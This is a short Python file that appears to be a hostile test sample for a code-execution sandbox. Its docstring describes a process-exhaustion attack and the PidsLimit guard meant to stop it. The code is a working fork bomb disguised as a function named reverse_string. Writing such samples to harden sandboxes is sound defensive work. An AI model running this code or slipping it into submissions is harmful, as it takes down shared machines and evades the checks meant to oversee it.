"""Fork until nothing can be forked, inside a call.

attack: H01 stop the machine, or the next check, with processes
guard: PidsLimit, and every process is killed between checks
reason: took longer than
"""

import os


def reverse_string(s):
    while True:
        try:
            os.fork()
        except OSError:
            continue
